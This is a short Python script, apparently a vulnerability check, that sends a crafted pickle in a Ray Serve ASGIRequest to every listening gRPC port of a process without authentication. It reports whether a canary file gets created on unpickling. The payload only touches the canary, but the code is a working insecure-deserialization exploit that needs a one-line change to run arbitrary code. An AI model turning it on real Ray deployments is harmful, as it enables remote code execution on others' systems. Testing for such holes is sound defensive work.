"""Sends a pickle to every port of a process that speaks gRPC, without a token; prints what each answers."""

import json
import pickle
import sys
from pathlib import Path

import grpc
import psutil
from ray.serve.generated import serve_pb2

canary = Path(sys.argv[2])


class Evil:
    """Touches the canary where somebody unpickles it."""

    def __reduce__(self):
        """What an attacker would write."""
        return Path.touch, (canary,)


request = serve_pb2.ASGIRequest(
    pickled_request_metadata=pickle.dumps(Evil()), request_args=pickle.dumps(Evil())
).SerializeToString()
ports = {
    line.laddr.port
    for line in psutil.Process(int(sys.argv[1])).net_connections("tcp")
    if line.status == "LISTEN"
}
answers = []
for port in sorted(ports):
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        for method in ("HandleRequest", "HandleRequestStreaming", "HandleRequestWithRejection"):
            call = channel.unary_unary(f"/ray.serve.ASGIService/{method}")
            try:
                call(request, timeout=5)
                answers.append("OK")
            except grpc.RpcError as error:
                answers.append(error.code().name)
print(json.dumps({"answers": answers, "canary": canary.exists()}))
